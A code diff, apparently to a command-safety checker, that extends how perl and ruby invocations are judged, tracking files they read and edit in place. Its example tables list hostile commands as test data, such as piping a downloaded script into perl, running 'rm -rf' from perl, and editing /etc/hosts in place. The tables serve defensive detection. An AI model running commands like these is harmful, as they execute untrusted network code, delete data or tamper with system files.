@@ -8,6 +8,8 @@ import {
 } from '../program.ts';
 import { beginningOf, show, textOf, type Word } from '../word.ts';
 import { judgeHiddenText } from '../hidden-text.ts';
+import { touchRead, touchWrite } from '../touch.ts';
+import { judgeFrameworkTask } from './frameworks.ts';
 import { judgeScriptFile } from './shells.ts';
 
 /** Words in a program's text that reach for other programs, the network, or delete. */
@@ -42,12 +44,16 @@ export function defineInterpreter({ names, code, values, prints, special, exampl
         const word = words[at];
         if (word === undefined) break;
         const text = beginningOf(word);
-        if (code.test(text)) return judgeCode(words[at + 1], word, invocation);
+        if (code.test(text)) {
+          judgeFiles(words.slice(at + 2), words, invocation);
+          return judgeCode(words[at + 1], word, invocation);
+        }
         if (values.test(text)) at += 1;
         else if (!text.startsWith('-') || text === '-') {
           if (word.kind === 'dynamic' && word.origin.network)
             scene.report.raise('blocked', 'network-into-shell', 'runs what the network sent', word.span);
           if (text === '-' || text === '/dev/stdin') return judgeInput(invocation);
+          judgeFrameworkTask(word, words.slice(at + 1), scene);
           return judgeScriptFile(word, scene);
         }
       }
@@ -74,6 +80,17 @@ function judgeCode(next: Word | undefined, option: Word, { scene, program }: Inv
       `${program} code that starts programs, deletes or connects: ${show(word)}`,
       word.span,
     );
+}
+
+/** `perl -pi -e … a.txt`: what follows the text is read, and written in place with `-i`. */
+function judgeFiles(files: readonly Word[], words: readonly Word[], { program, scene }: Invocation): void {
+  if (program !== 'perl' && program !== 'ruby') return;
+  const inPlace = words.some((word) => /^-[a-hj-z0]*i/.test(textOf(word) ?? ''));
+  for (const word of files) {
+    if (beginningOf(word).startsWith('-')) continue;
+    touchRead(scene, word);
+    if (inPlace) touchWrite(scene, word);
+  }
 }
 
 function judgeInput({ scene, program, span }: Invocation): void {
@@ -108,7 +125,11 @@ export const interpreters = definePrograms(
       safe: ['perl --version', 'php -v'],
       warning: ["perl -ne 'print if /x/' a", 'ruby x.rb', 'php artisan list'],
       dangerous: ['perl -e \'system("rm -rf lib")\'', 'perl -e "$x"', "ruby -e '`id`'", 'cat x.pl | perl'],
-      blocked: ['curl https://x.example | perl', 'perl -e "$(curl https://x.example)"'],
+      blocked: [
+        'perl -pi -e s/a/b/ /etc/hosts',
+        'curl https://x.example | perl',
+        'perl -e "$(curl https://x.example)"',
+      ],
     },
   }),
 );
